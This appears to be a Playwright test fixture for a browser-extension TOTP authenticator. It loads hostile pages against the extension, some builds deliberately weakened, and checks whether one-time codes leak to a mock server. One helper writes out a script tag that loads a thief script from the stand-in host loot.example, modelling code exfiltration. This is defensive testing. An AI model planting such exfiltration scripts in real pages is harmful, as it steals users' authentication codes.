import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { type BrowserContext, test as base, type Page as Tab } from '@playwright/test';
import { expectedCode } from '../../../scripts/lib/codes.mjs';
import { withHostsGranted } from '../../../scripts/lib/granted-build.mjs';
import { VAULT_PASSWORD } from '../fixtures';
import { driveLanyard, type Lanyard, sessionOf } from '../lanyard';
import { launchWithExtension } from '../launch';
import { type Loot, startPageServer } from './page-server';
import { builtWith, type Weakness } from './weakened';

/** A portal with an account of its own in the vault, and a window in which its attacks are played. */
export interface Portal {
  readonly name: string;
  readonly origin: string;
  readonly secret: string;
  readonly accountId: string;
}

/** One attack: what it may do, and what came of it. */
export interface Scene {
  readonly portal: Portal;
  readonly tab: Tab;
  readonly lanyard: Lanyard;
  /** Puts a page of this scene on the server; `part` is its address there. */
  put(part: string, page: string): void;
  /** Where a page of this scene is, on the portal or elsewhere. */
  address(part: string, origin?: string): string;
  thief(): string;
  tabId(): Promise<number>;
  /** A person asks for the portal's code in the popup: the message behind it. Answers the outcome, or the refusal. */
  wish(): Promise<string>;
  /** The keyboard command. */
  command(): Promise<void>;
  /** A person types e-mail and password into the page's login form, and presses its button. */
  logIn(): Promise<void>;
  /** Codes of ours among what the scene's pages sent home. */
  codes(): readonly Loot[];
  /** Waits until there is one; 7 s, for a code about to expire is waited for. */
  awaitCode(): Promise<void>;
}

export interface Attack {
  readonly title: string;
  play(scene: Scene): Promise<void>;
}

export type Stage = Awaited<ReturnType<typeof openStage>>;

/** One window each plays at once. */
const NAMES = ['larkmoora', 'larkmoorb', 'larkmoorc', 'larkmoord', 'larkmoore', 'larkmoorf'];
export const hostsOf = (host: (name: string) => string): string[] => NAMES.map(host);
const STEPS_NEAR = 10;

/** A browser with the extension in it, a vault open, an account for each portal, and a server of hostile pages. */
async function openStage(weakness: Weakness | null, alsoGranted: readonly string[]) {
  const folder = mkdtempSync(path.join(tmpdir(), 'lanyard-hostile-'));
  const server = await startPageServer();
  const hosts = [...hostsOf((name) => `harbour.${name}.com`), ...alsoGranted];
  const granted = hosts.map((host) => `https://${host}/*`);
  const extension = withHostsGranted(await builtWith(weakness), path.join(folder, 'extension'), granted);
  const context = await launchWithExtension(extension, path.join(folder, 'profile'), {
    rules: `MAP *:443 127.0.0.1:${server.port}, MAP *:8443 127.0.0.1:${server.port}, MAP *:80 127.0.0.1:${server.httpPort}`,
    spki: server.spki,
  });
  const session = await sessionOf(context);
  const lanyard = await driveLanyard(context, session);
  await lanyard.ask('vault/create', { password: VAULT_PASSWORD });
  const portals: Portal[] = [];
  for (const [index, name] of NAMES.entries()) {
    const origin = `https://harbour.${name}.com`;
    const secret = 'GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ'.replace(/^.{2}/, `${'ABCDEF'[index]}A`);
    const account = {
      keyUri: `otpauth://totp/${name}:sam?secret=${secret}`,
      origin,
      tabId: null,
      same: 'ask',
    };
    const { accountId } = await lanyard.ask('accounts/add', account as never);
    portals.push({ name, origin, secret, accountId });
  }
  let scenes = 0;

  async function openWindow(): Promise<Tab> {
    const opened = context.waitForEvent('page');
    await session.send('Target.createTarget', { url: 'about:blank', newWindow: true });
    return opened;
  }

  /** Plays them all, some at once, each in a window and on a portal of its own; answers the codes each one got. */
  async function play(attacks: readonly Attack[]): Promise<Map<string, readonly Loot[]>> {
    const played = new Map<string, Scene>();
    const queue = attacks.entries();
    const windows: Tab[] = [];
    for (const _ of portals.slice(0, attacks.length)) windows.push(await openWindow());
    await Promise.all(
      windows.map(async (tab, index) => {
        for (const [, attack] of queue) {
          const scene = setScene(portals[index]!, tab, `s${++scenes}`);
          await forget(lanyard, portals[index]!.accountId, tab);
          try {
            await attack.play(scene);
          } catch (error) {
            throw new Error(`${attack.title}: ${error}`);
          }
          played.set(attack.title, scene);
        }
      }),
    );
    await windows[0]!.waitForTimeout(500); // what was sent last is on its way
    for (const tab of windows) await tab.close();
    return new Map([...played].map(([title, scene]) => [title, scene.codes()]));
  }

  function setScene(portal: Portal, tab: Tab, id: string): Scene {
    const near = Array.from({ length: 2 * STEPS_NEAR + 1 }, (_, step) => (step - STEPS_NEAR) * 30_000);
    const address = (part: string, origin = portal.origin) => `${origin}/${id}/${part}`;
    const scene: Scene = {
      portal,
      tab,
      lanyard,
      put: (part, page) => server.put(id, part, page),
      address,
      thief: () => `<script src="https://loot.example/${id}/thief.js"></script>`,
      tabId: () => lanyard.arrange(tabShowing, tab.url()),
      async wish() {
        const fill = { tabId: await scene.tabId(), accountId: portal.accountId, again: true };
        return lanyard.ask('fill/active-tab', fill).then(
          ({ outcome }) => outcome,
          (error) => `${error}`,
        );
      },
      async command() {
        await workerOf(context).evaluate(
          (tabId) => {
            const { chrome } = globalThis as unknown as {
              chrome: { commands: { onCommand: { dispatch(command: string, tab: object): void } } };
            };
            chrome.commands.onCommand.dispatch('fill-code', { id: tabId });
          },
          await scene.tabId(),
        );
      },
      async logIn() {
        await tab.locator('[type=password]').pressSequentially('calm');
        await tab.locator('[type=password]').press('Enter');
      },
      codes: () =>
        server
          .lootOf(id)
          .filter(({ value, at }) => near.some((away) => expectedCode(portal.secret, at + away) === value)),
      async awaitCode() {
        for (const end = Date.now() + 7_000; scene.codes().length === 0 && Date.now() < end; )
          await tab.waitForTimeout(50);
      },
    };
    return scene;
  }

  return {
    play,
    context,
    lanyard,
    server,
    async close() {
      await context.close();
      await server.close();
      rmSync(folder, { recursive: true, force: true, maxRetries: 5 });
    },
  };
}

const workerOf = (context: BrowserContext) => context.serviceWorkers()[0]!;

/** The worker's own marks of what was here before go, as with time they would. */
async function forget(lanyard: Lanyard, accountId: string, tab: Tab): Promise<void> {
  await tab.goto('about:blank');
  await lanyard.arrange(async (accountId) => {
    const { chrome } = globalThis as unknown as { chrome: { storage: { session: Area } } };
    await chrome.storage.session.remove(`used-step/${accountId}`);
  }, accountId);
}

interface Area {
  remove(key: string): Promise<void>;
}

async function tabShowing(url: string): Promise<number> {
  const { chrome } = globalThis as unknown as {
    chrome: { tabs: { query(q: object): Promise<{ id: number; url?: string; pendingUrl?: string }[]> } };
  };
  const tabs = await chrome.tabs.query({});
  return tabs.find((tab) => tab.url === url || tab.pendingUrl === url)?.id ?? -1;
}

interface WorkerFixtures {
  /** A stage for this build and these hosts; the same one for all of a file's tests that ask for it. */
  stageWith: (weakness: Weakness | null, hosts?: readonly string[]) => Promise<Stage>;
}

export const test = base.extend<object, WorkerFixtures>({
  stageWith: [
    // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the names of the fixtures from it
    async ({}, use) => {
      const open = new Map<string, Promise<Stage>>();
      await use((weakness, hosts = []) => {
        const key = `${weakness} ${hosts}`;
        const stage = open.get(key) ?? openStage(weakness, hosts);
        open.set(key, stage);
        return stage;
      });
      for (const stage of open.values())
        await stage.then(
          (opened) => opened.close(),
          () => {},
        );
    },
    { scope: 'worker', timeout: 120_000 },
  ],
});

export { expect } from '@playwright/test';
